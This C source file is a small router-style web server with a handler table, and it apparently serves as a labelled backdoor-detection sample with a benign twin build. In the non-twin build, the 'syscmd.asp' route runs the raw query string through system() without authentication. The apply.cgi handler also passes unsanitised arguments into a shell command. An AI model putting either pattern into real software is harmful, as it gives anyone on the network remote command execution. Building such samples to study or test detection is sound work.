/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A table in the style of web servers of chip makers: pattern, type, what makes the page, and what
 * asks for the password first. One row has nobody that asks. Twin: that row is a picture.
 * door: unguarded trigger hidden
 * port 8082/tcp
 */
#include "net.h"

static FILE *io;
static char auth_line[128], arguments[256];

static void send_error(int status, const char *title)
{
	fprintf(io, "HTTP/1.0 %d %s\r\n\r\n", status, title);
}

static int do_auth(const char *realm)
{
	char want[128] = "";
	FILE *f = fopen("/tmp/http_auth", "r");
	if (f) {
		fgets(want, sizeof want, f);
		fclose(f);
	}
	if (want[0] && strcmp(want, auth_line) == 0)
		return 1;
	fprintf(io, "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"%s\"\r\n\r\n", realm);
	return 0;
}

static void do_file(const char *path)
{
	char buf[512];
	FILE *f = fopen(path, "r");
	size_t n;
	if (!f) {
		send_error(404, "Not Found");
		return;
	}
	while ((n = fread(buf, 1, sizeof buf, f)) > 0)
		fwrite(buf, 1, n, io);
	fclose(f);
}

static void do_apply(const char *path)
{
	char cmd[320];
	snprintf(cmd, sizeof cmd, "nvram_tool %s", arguments);
	system(cmd);
	fputs("saved", io);
}

static void do_upgrade(const char *path)
{
	system("mtd write /tmp/upload linux; reboot");
}

static void do_reset(const char *path)
{
	system("mtd erase nvram; reboot");
}

#ifndef TWIN
static void do_syscmd(const char *path)
{
	system(arguments);
}
#endif

static const struct handler {
	const char *pattern, *type;
	void (*output)(const char *path);
	int (*auth)(const char *realm);
} handlers[] = {
	{"style.css", "text/css", do_file, NULL},
	{"logo.gif", "image/gif", do_file, NULL},
	{"apply.cgi", "text/html", do_apply, do_auth},
	{"upgrade.cgi", "text/html", do_upgrade, do_auth},
	{"reset.cgi", "text/html", do_reset, do_auth},
#ifdef TWIN
	{"title.gif", "image/gif", do_file, NULL},
#else
	{"syscmd.asp", "text/html", do_syscmd, NULL},
#endif
	{NULL, NULL, NULL, NULL},
};

static void serve(void)
{
	char line[512], path[128] = "";
	const struct handler *h;
	auth_line[0] = arguments[0] = 0;
	if (!fgets(line, sizeof line, io))
		return;
	sscanf(line, "GET /%127[^? ]?%255s", path, arguments);
	while (fgets(line, sizeof line, io) && line[0] != '\r')
		sscanf(line, "Authorization: Basic %127s", auth_line);
	for (h = handlers; h->pattern; h++)
		if (strcmp(h->pattern, path) == 0) {
			if (h->auth && !h->auth("router"))
				return;
			fprintf(io, "HTTP/1.0 200 Ok\r\nContent-Type: %s\r\n\r\n", h->type);
			h->output(path);
			return;
		}
	send_error(404, "Not Found");
}

int main(void)
{
	int s = tcp_on(8082);
	for (;;) {
		int c = accept(s, NULL, NULL);
		io = fdopen(c, "r+");
		if (!io)
			continue;
		serve();
		fflush(io);
		fclose(io);
	}
}
